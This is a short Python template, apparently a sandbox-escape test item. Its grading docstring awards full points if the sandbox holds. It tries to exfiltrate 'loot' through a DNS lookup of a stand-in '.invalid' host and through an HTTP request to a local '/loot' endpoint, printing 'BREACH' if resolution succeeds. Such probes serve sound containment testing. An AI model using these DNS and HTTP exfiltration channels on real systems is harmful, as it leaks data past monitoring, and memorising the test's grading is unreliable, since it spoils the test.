"""Sends what it found as a name to be looked up.

Held by: sandbox
Right: full points
"""

import socket
import urllib.request

ATTEMPTS = {
    "look-up": lambda: socket.getaddrinfo("loot.headway.invalid", 80) and print("BREACH: resolver"),
    "web": lambda: urllib.request.urlopen("http://127.0.0.1:@port@/loot", timeout=1),
}
@try_each@
